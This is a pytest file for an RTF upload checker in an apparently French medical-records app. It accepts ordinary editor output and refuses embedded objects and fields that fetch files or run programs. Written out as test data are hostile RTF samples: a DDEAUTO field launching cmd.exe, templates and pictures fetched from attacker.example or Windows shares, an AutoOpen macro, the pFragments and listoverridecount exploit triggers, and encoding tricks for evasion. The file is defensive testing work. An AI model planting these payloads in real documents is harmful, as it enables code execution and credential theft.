# ruff: noqa: E501 (RTF samples are kept as editors write them, one long line each)
"""RTF is accepted only when every control word is a formatting or text word: letters as
LibreOffice Writer and WordPad write them pass; each way of smuggling an object, a binary or
a file-fetching field is refused. Pure tests, every sample written here."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.utils import translation

from records.file_types import RejectedFile, inspect_upload
from records.rtf_checks import CHUNK
from tests.records.uploads import LIMIT, verdict

# A one-page letter as LibreOffice Writer 7 saves it (fonts, colours, styles, page styles,
# a list, a table, a footer with the page number, a web link, a bookmark, accents as \'hh
# and \u escapes), shortened but with its every kind of control word.
LIBREOFFICE_LETTER = rb"""{\rtf1\ansi\deff4\adeflang1025
{\fonttbl{\f0\froman\fprq2\fcharset0 Times New Roman;}{\f1\froman\fprq2\fcharset2 Symbol;}{\f2\fswiss\fprq2\fcharset0 Arial;}{\f3\froman\fprq2\fcharset0 Liberation Serif{\*\falt Times New Roman};}{\f4\fswiss\fprq2\fcharset0 Liberation Sans{\*\falt Arial};}{\f5\fnil\fprq2\fcharset0 Noto Sans CJK SC;}{\f6\fnil\fprq2\fcharset0 OpenSymbol{\*\falt Arial Unicode MS};}}
{\colortbl;\red0\green0\blue0;\red0\green0\blue128;\red128\green128\blue128;}
{\stylesheet{\s0\snext0\rtlch\af8\afs24\alang1081 \ltrch\lang1036\langfe2052\hich\af4\loch\ql\widctlpar\hyphpar0\ltrpar\cf0\f4\fs24\lang1036\kerning1\dbch\af5\langfe2052 Normal;}
{\*\cs15\snext15\cf2\ul\ulc0\langfe255\alang255\lang255 Lien Internet;}
{\*\cs16\snext16\rtlch\af6 \ltrch\hich\af6\loch\f6 Puces;}
{\s17\sbasedon0\snext18\rtlch\af8\afs28 \ltrch\hich\af4\loch\ql\widctlpar\hyphpar0\sb240\sa120\keepn\ltrpar\cf0\f4\fs28\lang1036\kerning1\dbch\af5\langfe2052\loch\f4\fs28 Titre;}
{\s18\sbasedon0\snext18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar Corps de texte;}
{\s19\sbasedon0\snext19\loch\ql\widctlpar\hyphpar0\tqc\tx4819\tqr\tx9638\ltrpar Pied de page;}
}{\*\listtable{\list\listtemplateid1
{\listlevel\levelnfc23\leveljc0\levelstartat1\levelfollow0{\leveltext \'01\u8226 ?;}{\levelnumbers;}\f6\fi-360\li720}
{\listlevel\levelnfc23\leveljc0\levelstartat1\levelfollow0{\leveltext \'01\u9702 ?;}{\levelnumbers;}\f6\fi-360\li1080}\listid1}
}{\*\listoverridetable{\listoverride\listid1\listoverridecount0\ls1}}{\*\generator LibreOffice/7.3.7.2$Linux_X86_64 LibreOffice_project/30$Build-2}{\info{\author Dr Claire Robert}{\creatim\yr2026\mo3\dy12\hr10\min15}{\revtim\yr2026\mo3\dy12\hr10\min42}{\printim\yr0\mo0\dy0\hr0\min0}}{\*\userprops}\deftab709
\hyphauto1\viewscale100\formshade
{\*\pgdsctbl
{\pgdsc0\pgdscuse451\pgwsxn11906\pghsxn16838\marglsxn1134\margrsxn1134\margtsxn1134\margbsxn1134\pgdscnxt0 Default Page Style;}}
\paperh16838\paperw11906\margl1134\margr1134\margt1134\margb1134\sectd\sbknone\pgndec\sftnnar\saftnnrlc\sectunlocked1\pgwsxn11906\pghsxn16838\marglsxn1134\margrsxn1134\margtsxn1134\margbsxn1134\ftnbj\ftnstart1\ftnrstcont\ftnnar\aenddoc\aftnrstcont\aftnstart1\aftnnrlc
{\*\ftnsep\chftnsep}{\footer\pard\plain \s19\loch\qc\widctlpar\tqc\tx4819\tqr\tx9638\ltrpar{\field{\*\fldinst  PAGE }{\fldrslt 1}}\par}
\pgndec\pard\plain \s17\rtlch\af8\afs28 \ltrch\hich\af4\loch\ql\widctlpar\hyphpar0\sb240\sa120\keepn\ltrpar\cf0\f4\fs28{\*\bkmkstart objet}{\loch
Compte rendu de consultation}{\*\bkmkend objet}
\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\loch
Cher Confr\'e8re,}
\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\loch
J\u8217\'92ai vu en consultation le {\b\ab\loch 12 mars 2026} votre patient pour une {\i\ai\loch fi\'e8vre} \'e0 39\~\'b0C. Il a pay\'e9 25\u8364\'80.}
\par \pard\plain \ls1\ilvl0\s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar\fi-360\li720{\listtext\pard\plain \rtlch\af6 \ltrch\hich\af6\loch\f6 \u8226\'95\tab}{\loch
Parac\'e9tamol 1\~g, 3 fois par jour.}
\par \trowd\trql\trleft0\ltrrow\trpaddft3\trpaddt0\trpaddfl3\trpaddl0\trpaddfb3\trpaddb0\trpaddfr3\trpaddr0\clbrdrt\brdrs\brdrw10\brdrcf1\clbrdrl\brdrs\brdrw10\brdrcf1\clbrdrb\brdrs\brdrw10\brdrcf1\cellx4819\clbrdrt\brdrs\brdrw10\brdrcf1\clbrdrl\brdrs\brdrw10\brdrcf1\clbrdrb\brdrs\brdrw10\brdrcf1\clbrdrr\brdrs\brdrw10\brdrcf1\cellx9638
\pard\plain \intbl\ql\widctlpar{\loch CRP}\cell\pard\plain \intbl\ql\widctlpar{\loch 12\~mg/L}\cell\row\pard
\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\field{\*\fldinst HYPERLINK "https://www.ameli.fr/" }{\fldrslt {\*\cs15\cf2\ul\ulc0\langfe255\alang255\lang255 ameli.fr}}}{\loch
 \endash  Dr Claire Robert}
\par }"""

WORDPAD_NOTE = (
    rb"{\rtf1\ansi\ansicpg1252\deff0\nouicompat\deflang1036{\fonttbl{\f0\fnil\fcharset0 Calibri;}}"
    rb"{\*\generator Riched20 10.0.19041}\viewkind4\uc1 "
    rb"\pard\sa200\sl276\slmult1\f0\fs22\lang12 Ordonnance : parac\'e9tamol\par"
    rb"\b Renouveler\b0  si besoin.\par"
    b"}\r\n\x00"
)


# A letter as Word writes it (Office theme, latent styles, rsids, a hyperlink field), without
# the \*\datastore that Word 2007 and later append. Its theme (\*\themedata, a ZIP archive)
# and colour-scheme mapping (XML) are refused too, so Word's own file is refused; the same
# letter without them (as Word 2003 wrote it, before themes) is accepted.
WORD_LETTER = (Path(__file__).parent / "fixtures" / "word_letter.rtf").read_bytes()
WORD_2003_LETTER = re.sub(rb"\{\\\*\\(themedata|colorschememapping) [^{}]*\}", b"", WORD_LETTER)

# A text box as Word and LibreOffice write it for a simple shape (position, geometry, fill,
# line, margins, its name), and an inline PNG picture with its properties.
TEXT_BOX = (
    rb"{\rtf1\ansi {\shp{\*\shpinst\shpleft1440\shptop720\shpright4320\shpbottom2160\shpfhdr0"
    rb"\shpbxcolumn\shpbxignore\shpbypara\shpbyignore\shpwr3\shpwrk0\shpfblwtxt0\shpz0\shplid1026"
    rb"{\sp{\sn shapeType}{\sv 202}}{\sp{\sn fFlipH}{\sv 0}}{\sp{\sn fFlipV}{\sv 0}}"
    rb"{\sp{\sn lTxid}{\sv 65536}}{\sp{\sn fillColor}{\sv 16777215}}{\sp{\sn fFilled}{\sv 1}}"
    rb"{\sp{\sn lineColor}{\sv 0}}{\sp{\sn lineWidth}{\sv 9525}}{\sp{\sn fLine}{\sv 1}}"
    rb"{\sp{\sn dxTextLeft}{\sv 91440}}{\sp{\sn posh}{\sv 0}}{\sp{\sn posrelh}{\sv 3}}"
    rb"{\sp{\sn wzName}{\sv Zone de texte 1}}{\sp{\sn wzDescription}{\sv R\'e9sultats \u8211\'96 CRP}}"
    rb"{\sp{\sn fLayoutInCell}{\sv 1}}{\sp{\sn rotation}{\sv -5898240}}"
    rb"{\sp{\sn fshadowObscured}{\sv 1}}{\sp{\sn fNoFillHitTest}{\sv 1}}"  # LibreOffice's
    rb"{\shptxt \pard\plain \ql Bonjour\par}}}\par}"
)
INLINE_PICTURE = (
    rb"{\rtf1\ansi {\*\shppict{\pict{\*\picprop\shplid1025{\sp{\sn shapeType}{\sv 75}}"
    rb"{\sp{\sn fFlipH}{\sv 0}}{\sp{\sn fLockAspectRatio}{\sv 1}}{\sp{\sn pictureGray}{\sv 0}}"
    rb"{\sp{\sn fLine}{\sv 0}}{\sp{\sn wzDescription}{\sv Radiographie}}"
    rb"{\sp{\sn fLayoutInCell}{\sv 1}}}\picscalex100\picscaley100\piccropl0\piccropr0\piccropt0"
    rb"\piccropb0\picw100\pich100\picwgoal57\pichgoal57\pngblip 89504e470d0a1a0a}}\par}"
)


@pytest.mark.parametrize(
    "data",
    [
        LIBREOFFICE_LETTER,
        WORDPAD_NOTE,
        WORD_2003_LETTER,
        TEXT_BOX,
        INLINE_PICTURE,
        rb"{\rtf1\ansi Bonjour}",
        rb'{\rtf1 {\field{\*\fldinst HYPERLINK \\l "resultats"}{\fldrslt voir plus bas}}}',
        rb'{\rtf1 {\field{\*\fldinst HYPERLINK "mailto:secretariat@chu.example"}{\fldrslt x}}}',
        rb'{\rtf1 {\field{\*\fldinst {\rtlch\fcs1 DATE \\@ "dd/MM/yyyy"}}{\fldrslt 12/03/2026}}}',
        rb'{\rtf1 {\field{\*\fldinst HYPERLINK "https://example.org/?q='
        + b"a" * 1500
        + rb'"}{\fldrslt x}}}',
    ],
    ids=[
        "libreoffice",
        "wordpad",
        "word-without-theme",
        "text-box",
        "inline-picture",
        "minimal",
        "link-within",
        "mail-link",
        "date-field",
        "long-web-link",
    ],
)
def test_letters_as_editors_write_them_are_accepted(data):
    assert verdict(data) == "accepted"


def test_a_control_word_cut_between_two_chunks_is_read_whole():
    # "\fldinst" and "\par" straddle the chunk boundary; the file is read in CHUNK pieces.
    filler = b"a" * (CHUNK - len(rb"{\rtf1 ") - 4)
    data = rb"{\rtf1 " + filler + rb"{\field{\*\fldinst PAGE}{\fldrslt 1}}\par}"
    assert verdict(data) == "accepted"
    hidden = rb"{\rtf1 " + filler + rb"{\object\objemb{\*\objclass Package}{\objdata 01}}}"
    assert verdict(hidden) == "rtf_control_word"


@pytest.mark.parametrize("shift", range(12))
def test_every_kind_of_token_is_read_whole_across_the_chunk_boundary(shift):
    start = rb"{\rtf1 "
    tokens = rb"caf\'e9\par\u8364\'80\\{\*\bkmkstart x}"
    filler = b"a" * (CHUNK - len(start) - shift)
    assert verdict(start + filler + tokens + b"}") == "accepted"
    assert verdict(start + filler + rb"{\*\objdata 0105}}") == "rtf_control_word"


SMUGGLED = {
    "object": rb"{\rtf1 {\object\objemb{\*\objclass Package}{\*\objdata 0105000002}}}",
    "objdata-in-a-starred-destination": rb"{\rtf1 Bonjour{\*\objdata 01050000020000000b}}",
    "objdata-under-a-font-table": rb"{\rtf1{\fonttbl{\f0 Arial;{\objdata 0105}}}Bonjour}",
    "objclass-alone": rb"{\rtf1 {\*\objclass Equation.3}}",
    "datastore": rb"{\rtf1 Bonjour{\*\datastore 010500000200000018000000}}",
    "unknown-starred-destination": rb"{\rtf1 Bonjour{\*\xyzpayload 0105000002}}",
    "known-word-starred-where-not-a-destination": rb"{\rtf1 {\*\par 0105}}",
    "uppercase-object": rb"{\rtf1 {\OBJECT\OBJEMB{\OBJDATA 0105}}}",
    "mixed-case-objdata": rb"{\rtf1 {\ObjData 0105}}",
    "word-split-by-a-hex-escape": rb"{\rtf1 {\ob\'6aect\objemb 0105}}",
    "word-split-by-a-line-break": b"{\\rtf1 {\\obj\r\ndata 0105}}",
    "word-split-by-an-empty-group": rb"{\rtf1 {\obj{}data 0105}}",
    "binary": rb"{\rtf1 {\pict\pngblip\bin4 MZPE}}",
    "metafile-picture": rb"{\rtf1 {\pict\wmetafile8\picw10\pich10 0100090000}}",
    "picture-with-embedded-object": rb"{\rtf1 {\pict\pngblip\objemb 89504e47}}",
    "attached-template": rb"{\rtf1 {\*\template http://attacker.example/t.dotm}Bonjour}",
    "form-field-with-macro": rb"{\rtf1 {\*\formfield{\ffentrymcr AutoOpen}}}",
    "star-then-text": rb"{\rtf1 {\* x\objdata 01}}",
    "unknown-control-symbol": rb"{\rtf1 a\^b}",
    "overlong-word": rb"{\rtf1 \o" + b"b" * 40 + rb" x}",
}


@pytest.mark.parametrize("data", SMUGGLED.values(), ids=SMUGGLED.keys())
def test_every_way_of_smuggling_an_object_is_refused(data):
    assert verdict(data) == "rtf_control_word"


FIELDS = {
    "includepicture": rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/x.png" \\d}{\fldrslt }}}',
    "includetext": rb'{\rtf1 {\field{\*\fldinst INCLUDETEXT "C:\\\\Users\\\\secret.txt"}{\fldrslt x}}}',
    "ddeauto": rb'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}}',
    "hyperlink-to-a-file": rb'{\rtf1 {\field{\*\fldinst HYPERLINK "file:///C:/x.exe"}{\fldrslt x}}}',
    "hyperlink-to-a-share": rb'{\rtf1 {\field{\*\fldinst HYPERLINK "\\\\\\\\attacker\\\\s"}{\fldrslt x}}}',
    "name-with-a-hex-escape": rb'{\rtf1 {\field{\*\fldinst INCLUDE\'50ICTURE "http://a.example/x"}}}',
    "name-with-a-unicode-escape": rb'{\rtf1 {\field{\*\fldinst \u73 ?NCLUDETEXT "x"}}}',
    "allowed-name-only-for-readers-without-unicode": (
        rb'{\rtf1 {\field{\*\fldinst \uc5 \u73 PAGE NCLUDETEXT "x"}}}'  # "I" + skip "PAGE "
    ),
    "name-split-over-groups": rb'{\rtf1 {\field{\*\fldinst {INCLUDE}{PICTURE "http://a.example/x"}}}}',
    "field-nested-in-an-allowed-one": rb'{\rtf1 {\field{\*\fldinst PAGE {\field{\*\fldinst INCLUDETEXT "x"}}}}}',
    "lowercase-name": rb'{\rtf1 {\field{\*\fldinst includepicture "http://a.example/x"}}}',
}


@pytest.mark.parametrize("data", FIELDS.values(), ids=FIELDS.keys())
def test_fields_that_fetch_files_or_run_programs_are_refused(data):
    assert verdict(data) == "rtf_field"


@pytest.mark.parametrize(
    "data",
    [
        rb"{\rtf1 Bonjour}{\object\objdata 0105}",  # a second group behind the document
        rb"{\rtf1 Bonjour}}",
        rb"{\rtf1 {Bonjour}",
        rb"{\rtf1 caf\'zz}",
        rb"{\rtf1 " + b"{" * 101 + b"x" + b"}" * 101 + b"}",
    ],
    ids=["data-after-the-document", "unbalanced-close", "unclosed-group", "bad-hex", "too-deep"],
)
def test_malformed_rtf_is_refused_as_damaged(data):
    assert verdict(data) == "damaged"


def test_a_word_letter_with_its_data_store_is_refused():
    datastore = (
        rb"{\*\datastore 0105000002000000180000004d73786d6c322e534158584d4c5265616465722e362e3000}"
    )
    with_store = WORD_LETTER.rstrip()[:-1] + datastore + b"}"
    assert verdict(with_store) == "rtf_control_word"


def test_the_refusal_names_what_was_found():
    with translation.override("en"), pytest.raises(RejectedFile) as refused:
        inspect_upload(io.BytesIO(SMUGGLED["datastore"]), max_bytes=LIMIT)
    assert "\\*\\datastore" in refused.value.message
    assert "Save the document as a PDF" in refused.value.message
    with translation.override("en"), pytest.raises(RejectedFile) as refused:
        inspect_upload(io.BytesIO(FIELDS["ddeauto"]), max_bytes=LIMIT)
    assert "DDEAUTO" in refused.value.message


# --- Shapes, pictures and Word's opaque containers (a review of the allow-list) ---------------

PFRAGMENTS = rb"{\rtf1{\shp{\*\shpinst{\sp{\sn pFragments}{\sv 1;1;" + b"f" * 4000 + rb"}}}}}"
SHARE_PICTURE = (
    rb"{\rtf1{\sp{\sn pibName}{\sv \'5c\'5cattacker\'5cshare\'5ca.png}}{\sp{\sn pibFlags}{\sv 10}}}"
)


def prop(name: bytes, value: bytes) -> bytes:
    return rb"{\rtf1{\shp{\*\shpinst{\sp{\sn " + name + rb"}{\sv " + value + rb"}}}}}"


SHAPES = {
    "cve-2010-3333-pfragments": PFRAGMENTS,
    "picture-linked-to-a-share": SHARE_PICTURE,
    "picture-link-flags-alone": prop(b"pibFlags", b"10"),
    "uppercase-name": prop(b"PFRAGMENTS", b"1;1;ffff"),
    "mixed-case-picture-name": prop(b"PibName", b"x.png"),
    "name-with-a-hex-escape": prop(rb"pFr\'61gments", b"1;1;ffff"),
    "name-with-a-unicode-escape": prop(rb"\u112 ?Fragments", b"1;1;ffff"),
    "name-split-over-groups": prop(b"{pib}{Name}", b"x.png"),
    "embedded-picture": prop(b"pib", rb"{\pict\pngblip 89504e47}"),
    "fill-picture": prop(b"fillBlipName", b"x.png"),
    "wordart": prop(b"gtextUNICODE", b"Bonjour"),
    "shape-hyperlink": prop(b"pihlShape", rb"{\*\hl{\hlsrc \\\\attacker\\s}}"),
    "vertices": prop(b"pVerticies", b"8;4;(0,0);(21600,0);(21600,21600);(0,21600)"),
    "segment-info": prop(b"pSegmentInfo", b"2;4;4000;0001;2001;8000"),
    "unknown-name": prop(b"metroBlob", b"504b0304"),
    "share-in-alternative-text": prop(b"wzDescription", rb"\'5c\'5cattacker\'5cshare"),
    "share-written-with-slashes": prop(b"wzDescription", b"//attacker/share/a.png"),
    "share-as-unicode-escapes": prop(b"wzDescription", rb"\u92 ?\u92 ?attacker\u92 ?s"),
    "share-as-escaped-backslashes": prop(b"wzName", rb"\\\\attacker\\s"),
    "file-url-in-a-name": prop(b"wzName", b"FILE:///C:/x.exe"),
    "payload-in-a-number": prop(b"fillColor", b"1;1;ffff"),
    "over-long-text": prop(b"wzDescription", b"a" * 1100),
    "value-without-a-name": rb"{\rtf1{\sp{\sv 1;1;ffff}}}",
    "picture-inside-an-allowed-value": prop(b"wzName", rb"{\pict\pngblip 00}"),
    "linked-picture-in-an-inline-picture": (
        rb"{\rtf1{\pict{\*\picprop{\sp{\sn pibName}{\sv \'5c\'5cs\'5ca.png}}}\pngblip 89504e47}}"
    ),
}


@pytest.mark.parametrize("data", SHAPES.values(), ids=SHAPES.keys())
def test_shape_properties_that_link_embed_or_overflow_are_refused(data):
    assert verdict(data) == "rtf_shape"


WORD_DATA = {
    "themedata": rb"{\rtf1 Bonjour{\*\themedata 504b030414000600080000002100e9de0fbfff}}",
    "colorschememapping": rb"{\rtf1 Bonjour{\*\colorschememapping 3c3f786d6c}}",
    "datastore": SMUGGLED["datastore"],
    "themedata-without-star": rb"{\rtf1 Bonjour{\themedata 504b0304}}",
    "word-letter-as-saved": WORD_LETTER,
}


@pytest.mark.parametrize("data", WORD_DATA.values(), ids=WORD_DATA.keys())
def test_words_opaque_containers_are_refused_with_the_advice_to_send_a_pdf(data):
    with translation.override("en"), pytest.raises(RejectedFile) as refused:
        inspect_upload(io.BytesIO(data), max_bytes=LIMIT)
    assert refused.value.code == "rtf_control_word"
    assert "Microsoft Word" in refused.value.message
    assert "Save the document as a PDF" in refused.value.message


@pytest.mark.parametrize(
    "data",
    [rb"{\rtf1 {\*\THEMEDATA 504b0304}}", rb"{\rtf1 {\*\ThemeData 504b0304}}"],
    ids=["uppercase", "mixed-case"],
)
def test_other_spellings_of_the_theme_are_refused_as_unknown_words(data):
    assert verdict(data) == "rtf_control_word"


def test_a_refused_shape_names_the_property_and_advises_a_pdf():
    with translation.override("en"), pytest.raises(RejectedFile) as refused:
        inspect_upload(io.BytesIO(SHARE_PICTURE), max_bytes=LIMIT)
    assert "pibName" in refused.value.message
    assert "Save the document as a PDF" in refused.value.message
    assert "attacker" not in refused.value.message


@pytest.mark.parametrize("shift", range(0, 40, 3))
@pytest.mark.parametrize(
    ("tail", "expected"),
    [
        (rb"{\sp{\sn pFragments}{\sv 1;1;ffff}}}", "rtf_shape"),
        (rb"{\sp{\sn pib\'4eame}{\sv \'5c\'5cattacker\'5cs}}}", "rtf_shape"),
        (rb"{\sp{\sn wzDescription}{\sv \'5c\'5cattacker\'5cs}}}", "rtf_shape"),
        (rb"{\*\themedata 504b0304}}", "rtf_control_word"),
        (rb"{\sp{\sn fillColor}{\sv 16777215}}{\sp{\sn wzName}{\sv Zone}}}", "accepted"),
    ],
    ids=["pfragments", "escaped-picture-link", "share-in-a-value", "themedata", "allowed"],
)
def test_shape_properties_are_read_whole_across_the_chunk_boundary(shift, tail, expected):
    start = rb"{\rtf1 "
    filler = b"a" * (CHUNK - len(start) - shift)
    assert verdict(start + filler + tail) == expected


@pytest.mark.parametrize(
    ("count", "expected"),
    [(b"0", "accepted"), (b"1", "accepted"), (b"9", "accepted"), (b"25", "rtf_control_word")],
)
def test_a_list_override_count_beyond_the_specification_is_refused(count, expected):
    # CVE-2014-1761: \listoverridecount25 overflowed Word; the specification allows 0, 1 or 9.
    data = (
        rb"{\rtf1{\*\listoverridetable{\listoverride\listid1\listoverridecount"
        + count
        + rb"\ls1}}Bonjour}"
    )
    assert verdict(data) == expected


# --- A \u's fallback is skipped as the specification says (a second review) ----------------

# After \uN a reader skips \ucN "characters" of fallback, each control word, control symbol
# and \'hh counting as one, up to the end of the group. A check that stops skipping at a control
# word reads "PAGE" where Word reads INCLUDEPICTURE to a Windows share.
SHARE = rb'INCLUDEPICTURE "\\\\\\\\srv\\\\x.png"}{\fldrslt x}}}'
FALLBACK_TRICKS = {
    "tab-counted-as-one": rb"{\rtf1 {\field{\*\fldinst \uc5\u32\tab PAGE\uc14\u32"
    + rb"\tab" * 14
    + b" "
    + SHARE,
    # A check that counts no symbol skips the 14 letters of INCLUDEPICTURE instead.
    "optional-hyphen-counted-as-one": rb"{\rtf1 {\field{\*\fldinst \uc6\u32\-\tab PAGE\uc14\u32"
    + rb"\-" * 14
    + SHARE,
    "hex-escapes-and-text": rb"{\rtf1 {\field{\*\fldinst \uc6\u32\'41PAGE " + SHARE,
    # Ambiguous even when both readings are harmless: refused.
    "word-in-a-fallback": rb"{\rtf1 {\field{\*\fldinst \u32\tab PAGE}{\fldrslt 1}}}",
    "symbol-in-a-fallback": rb"{\rtf1 {\field{\*\fldinst \u32\~PAGE}{\fldrslt 1}}}",
}


@pytest.mark.parametrize("data", FALLBACK_TRICKS.values(), ids=FALLBACK_TRICKS.keys())
def test_a_unicode_fallback_counts_control_words_as_the_specification_does(data):
    assert verdict(data) == "rtf_field"


PROPERTY_FALLBACKS = {
    "name": prop(rb"\uc4\u32\tab fillColor", b"0"),
    "name-behind-symbols": prop(rb"\uc4\u112\-\-\-\-pib\uc0Name", rb"\'5c\'5cs\'5ca.png"),
    "value": prop(b"wzName", rb"\uc9\u32\tab x\\\\srv\\s"),
    # A check that counts no symbol skips "//" and reads "srv/x.png"; Word reads a share.
    "share-behind-symbols": prop(b"wzDescription", rb"\uc2\u32\-\-//srv/x.png"),
}


@pytest.mark.parametrize("data", PROPERTY_FALLBACKS.values(), ids=PROPERTY_FALLBACKS.keys())
def test_a_unicode_fallback_in_a_shape_property_is_refused_as_ambiguous(data):
    assert verdict(data) == "rtf_shape"


@pytest.mark.parametrize(
    "data",
    [
        rb"{\rtf1 {\uc1\u65\uc14 x}}",
        rb"{\rtf1 {\uc1\u65\u66 x}}",
        rb"{\rtf1 {\uc1\u65\sp x}}",
    ],
    ids=["uc-in-a-fallback", "u-in-a-fallback", "sp-in-a-fallback"],
)
def test_a_word_that_changes_the_reading_is_refused_in_a_fallback(data):
    assert verdict(data) == "rtf_control_word"


@pytest.mark.parametrize(
    "data",
    [
        rb"{\rtf1 {\field{\*\fldinst {\uc2\u80 ?}AGE}{\fldrslt 1}}}",  # the group ends the skip
        rb"{\rtf1 \uc2\u8217\tab\par x\u8364\'80 y}",  # words outside an instruction count
        rb'{\rtf1 {\field{\*\fldinst HYPERLINK "https://example.org/caf\u233'
        + rb"\'e9"
        + rb'"}{\fldrslt x}}}',
    ],
    ids=["group-ends-the-skip", "words-in-text", "escaped-link"],
)
def test_fallbacks_as_editors_write_them_are_still_accepted(data):
    assert verdict(data) == "accepted"


@pytest.mark.parametrize(
    "count",
    [b"-1", b"-4294967271", b"10", b"4294967321"],
    ids=["negative", "wraps-to-25", "ten", "wraps-to-25-unsigned"],
)
def test_a_list_override_count_with_a_sign_or_a_wrap_is_refused(count):
    data = (
        rb"{\rtf1{\*\listoverridetable{\listoverride\listid1\listoverridecount"
        + count
        + rb"\ls1}}Bonjour}"
    )
    assert verdict(data) == "rtf_control_word"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (rb"{\rtf1 \fs" + b"1" * 30 + b" x}", "rtf_control_word"),
        (rb"{\rtf1 \fs-" + b"1" * 30 + b" x}", "rtf_control_word"),
        (rb"{\rtf1 \fs00000000024 x}", "rtf_control_word"),  # 11 digits, whatever their value
        (rb"{\rtf1 \rsid2147483648 x}", "rtf_control_word"),
        (rb"{\rtf1 \rsid2147483647\fs-2147483648 x}", "accepted"),
        (rb"{\rtf1 \u-3913 ?x}", "accepted"),
    ],
    ids=[
        "30-digits",
        "30-digits-negative",
        "11-digits",
        "over-int32",
        "int32-bounds",
        "u-negative",
    ],
)
def test_a_parameter_beyond_32_bits_is_refused(data, expected):
    assert verdict(data) == expected


@pytest.mark.parametrize(
    "target",
    [rb"http:\\\\\\\\srv\\\\share", b"http:", b"https://", rb"mailto:\\\\\\\\srv\\\\s", b"mailto:"],
    ids=[
        "backslashes-after-the-scheme",
        "scheme-alone",
        "no-host",
        "mailto-a-share",
        "mailto-alone",
    ],
)
def test_a_hyperlink_needs_a_web_address_or_an_e_mail_address(target):
    # Read like a PDF's links (records/web_links.py): a scheme is not enough.
    data = rb'{\rtf1 {\field{\*\fldinst HYPERLINK "' + target + rb'"}{\fldrslt x}}}'
    assert verdict(data) == "rtf_field"
